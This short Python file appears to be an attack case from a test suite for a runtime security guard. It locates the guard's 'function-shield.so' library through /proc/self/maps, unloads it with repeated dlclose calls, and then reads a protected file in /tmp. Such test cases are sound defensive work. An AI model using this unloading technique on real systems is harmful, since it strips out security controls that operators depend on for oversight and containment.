# class: switch_off
# rule: read_write_tmp
# also: native_code
# success: the guard's library is unloaded, and a file in /tmp read
# proof: read
import ctypes
import os

from attack import FILE, attempt


@attempt
def steal():
    c = ctypes.CDLL(None)
    c.dlopen.restype = ctypes.c_void_p
    with open("/proc/self/maps") as maps:
        paths = {line.split()[-1] for line in maps if "function-shield.so" in line}
    for path in paths:
        handle = c.dlopen(os.fsencode(path), 2)
        for _ in range(50):
            if handle:
                c.dlclose(ctypes.c_void_p(handle))
    return open(FILE).read()
